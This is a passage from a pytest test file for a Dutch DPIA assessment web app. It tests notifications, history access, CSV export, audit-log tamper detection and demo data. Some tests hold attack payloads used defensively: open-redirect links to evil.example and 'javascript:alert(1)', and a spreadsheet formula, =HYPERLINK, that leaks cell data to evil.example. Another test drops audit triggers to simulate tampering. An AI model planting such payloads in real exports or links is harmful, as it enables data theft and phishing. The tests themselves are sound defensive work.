    owner.post_form("/meldingen/gelezen")
    assert notes_of(people.fg1)[0].read_at is None
    assert TITLE not in text_of(owner.get("/meldingen"))
    assert unread_in_nav(client_for(app, people.fg1)) == "Meldingen 1 ongelezen"


@pytest.mark.parametrize(
    "link",
    ["//evil.example/inloggen", "https://evil.example/", "/\\evil.example", "javascript:alert(1)"],
)
def test_opening_a_notification_never_leaves_the_app(app, link):
    user = make_user(Role.FG)
    note = Notification(user_id=user.id, kind="comment", message="Kijk hier.", link=link)
    db.session.add(note)
    db.session.commit()
    browser = client_for(app, user)

    response = browser.post_form(f"/meldingen/{note.id}/openen")

    assert response.status_code == 302
    location = response.headers["Location"]
    # Browsers read "//host" and "/\host" as another site; "/%5Chost" is a path on this one.
    assert location.startswith("/") and location[1:2] not in ("/", "\\"), location
    if link != "/\\evil.example":
        assert location == "/"
    assert notes_of(user)[0].read_at is not None


# --- the history of an assessment ----------------------------------------------------------


def test_history_is_for_the_owner_the_fgs_after_submission_and_auditors(app):
    people = cast()
    editor = make_user(Role.PROJECTLEIDER, email="carla@pia.test")
    viewer = make_user(Role.PROJECTLEIDER, email="lars@pia.test")
    add_member(people.assessment, editor, AssessmentRole.EDITOR)
    add_member(people.assessment, viewer, AssessmentRole.VIEWER)
    other_fg = db.session.scalar(select(User).where(User.email == "joost@pia.test"))
    url = f"/assessments/{people.assessment.id}/historie"

    def status(user) -> tuple[int, int]:
        browser = client_for(app, user)
        return browser.get(url).status_code, browser.get(url + ".csv").status_code

    assert status(people.owner) == (200, 200)
    assert status(make_user(Role.AUDITOR, org="Fin")) == (200, 200)
    assert status(people.fg1) == (403, 403), "not before it was submitted"
    for user in (editor, viewer, other_fg):
        assert status(user) == (403, 403), user.email

    do(app, review.submit, people.assessment, people.owner)
    assert status(people.fg1) == (200, 200)
    assert status(people.fg2) == (200, 200)
    for user in (editor, viewer, other_fg):
        assert status(user) == (403, 403), user.email


def _rows(page) -> dict[str, list[str]]:
    """data-action → the visible text of each history row with that action."""
    html = page.get_data(as_text=True)
    found: dict[str, list[str]] = {}
    for action, row in re.findall(r'<tr data-action="([^"]+)">(.*?)</tr>', html, re.S):
        found.setdefault(action, []).append(
            " ".join(unescape(re.sub(r"<[^>]+>", " ", row)).split())
        )
    return found


def test_history_lists_saves_with_old_and_new_values_downloads_and_transitions(app):
    people = cast()
    other = demo_assessment(people.owner, title="Een ander assessment")
    owner = client_for(app, people.owner)
    owner.environ_base["REMOTE_ADDR"] = "192.0.2.7"
    old = load_answers(people.assessment, Questionnaire.DPIA)["14.1"]

    saved = fill(owner, people.assessment, "dpia", "14", {"q_14_1": "Alleen het BSN is nodig."})
    assert saved.status_code == 302
    made = owner.post_form(f"/assessments/{people.assessment.id}/documenten/dpia-rapport")
    assert made.status_code == 302
    documents = owner.get(f"/assessments/{people.assessment.id}/documenten/")
    doc_id = document_id_from(documents)
    download = owner.get(f"/assessments/{people.assessment.id}/documenten/{doc_id}.docx")
    assert download.status_code == 200
    press(app, people.owner, people.assessment, "submit")
    fill(owner, other, "dpia", "14", {"q_14_1": "Iets over een ander assessment."})

    page = client_for(app, people.fg1).get(f"/assessments/{people.assessment.id}/historie")
    assert page.status_code == 200
    rows = _rows(page)
    (save,) = rows["assessment.answers_saved"]
    assert "Pieter Opsteller <pieter@pia.test>" in save
    assert "192.0.2.7" in save
    assert "DPIA onderdeel 14 opgeslagen: vraag 14.1" in save
    assert re.search(rf"Vraag 14\.1: ‘[^’]+’ was: {re.escape(old[:60])}", save)
    assert "nu: Alleen het BSN is nodig." in save
    (downloaded,) = rows["document.downloaded"]
    assert "gedownload als DOCX" in downloaded and "192.0.2.7" in downloaded
    assert any("ingediend voor FG-advies" in r for r in rows["assessment.transition"])
    assert "Iets over een ander assessment" not in text_of(page)
    assert list(rows)[0] == "assessment.transition", "newest first"


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")'


def test_history_csv_has_the_columns_and_never_starts_a_cell_with_a_formula(app):
    people = cast()
    sly = make_user(Role.FG, name=FORMULA, email="formule@pia.test")
    do(app, review.submit, people.assessment, people.owner)
    press(app, sly, people.assessment, "claim")
    post_comment(client_for(app, sly), people.assessment, "9", FORMULA, "9")
    post_comment(client_for(app, people.owner), people.assessment, "9", "-1+1", "9")

    response = client_for(app, people.owner).get(
        f"/assessments/{people.assessment.id}/historie.csv"
    )

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith(
        f'attachment; filename="historie-assessment-{people.assessment.id}-'
    )
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8")[1:]), delimiter=";"))
    assert rows[0] == [
        "id",
        "tijdstip_utc",
        "actor",
        "ip_adres",
        "actie",
        "samenvatting",
        "details_json",
        "vorige_hash",
        "hash",
    ]
    events = {str(e.id): e for e in db.session.scalars(select(AuditEvent))}
    for row in rows[1:]:
        assert len(row) == 9, row
        assert events[row[0]].hash == row[8] and events[row[0]].prev_hash == row[7]
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@"), cell
    claim = next(r for r in rows if r[4] == "assessment.transition" and "neemt" in r[5])
    assert claim[2] == f"'{FORMULA} <formule@pia.test>"
    assert claim[5].startswith(f"'{FORMULA} neemt “{TITLE}” in behandeling")
    comments = [r for r in rows if r[4] == "assessment.comment"]
    assert [json.loads(r[6])["body"] for r in comments] == [FORMULA, "-1+1"], "text kept intact"
    assert comments[0][2] == f"'{FORMULA} <formule@pia.test>"
    # The download itself is on record.
    page = client_for(app, people.owner).get(f"/assessments/{people.assessment.id}/historie")
    assert "gedownload als CSV" in " ".join(_rows(page)["assessment.history_downloaded"])


def _drop_audit_guards(backend: str) -> None:
    statements = {
        "sqlite": ["DROP TRIGGER audit_events_no_update", "DROP TRIGGER audit_events_no_delete"],
        "postgresql": ["DROP TRIGGER audit_events_append_only ON audit_events"],
    }[backend]
    _outside_the_app(*statements)


def _outside_the_app(*statements: str, **params) -> None:
    """SQL on a connection of its own, as someone with database access would run it."""
    db.session.commit()
    with db.engine.begin() as connection:
        for statement in statements:
            connection.execute(text(statement), params)
    db.session.expire_all()


def test_tampering_with_an_assessment_event_is_detected(app, backend):
    people = cast()
    owner = client_for(app, people.owner)
    post_comment(owner, people.assessment, "9", "De bewaartermijn is zeven jaar.", "9")
    do(app, review.submit, people.assessment, people.owner)
    victim = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "assessment.comment"))
    assert victim.object_id == str(people.assessment.id)
    assert verify_chain() is None
    assert app.test_cli_runner().invoke(args=["verify-audit"]).exit_code == 0

    # The app refuses to change it, and so does the database.
    victim.summary = "Niets aan de hand"
    with pytest.raises(AuditLogIsAppendOnly):
        db.session.commit()
    db.session.rollback()
    with pytest.raises(DBAPIError):
        _outside_the_app("UPDATE audit_events SET summary = 'x' WHERE id = :id", id=victim.id)
    assert verify_chain() is None

    _drop_audit_guards(backend)
    _outside_the_app(
        "UPDATE audit_events SET details = :details WHERE id = :id",
        details=json.dumps({"comment_id": 1, "parent_id": None, "body": "Geen bewaartermijn."}),
        id=victim.id,
    )
    assert "Geen bewaartermijn." in text_of(
        owner.get(f"/assessments/{people.assessment.id}/historie")
    )
    assert verify_chain() == victim.id
    result = app.test_cli_runner().invoke(args=["verify-audit"])
    assert result.exit_code == 1
    assert f"gebeurtenis {victim.id}" in result.output


# --- the demo --------------------------------------------------------------------------------


def test_demo_has_an_assessment_in_every_state_sends_no_mail_and_seeds_once(app, smtp):
    first = seed_demo()
    db.session.commit()

    assert first["assessments"] >= len(departmental.STATES)
    states = set(db.session.scalars(select(Assessment.state)))
    assert {s.value for s in departmental.STATES} <= states
    assert app.config["MAIL_BACKEND"] == "smtp", "the mail setting is restored"
    assert queued() == [] and smtp.sink.envelopes == []
    assert notified("submitted"), "the demo's notifications are in the app"
    tables = _row_counts()

    second = seed_demo()
    db.session.commit()
    assert second == {"organisations": 0, "users": 0, "assessments": 0}
    assert _row_counts() == tables, "the second run added something"

    # The demo's submitted DPIA is over the FG's term.
    fg = app.test_client()
    fg.post_form("/inloggen", {"email": "fg.bzk@pia.test", "password": DEMO_PASSWORD})
    overdue = dashboard_lists(fg.get("/"), "fg")["Termijn verstreken"]
    assert "Subsidieregeling verduurzaming maatschappelijk vastgoed" in overdue
    assert "Te laat" in overdue


def _row_counts() -> dict[str, int]:
    return {
        table.name: db.session.scalar(select(func.count()).select_from(table))
        for table in db.metadata.sorted_tables
    }
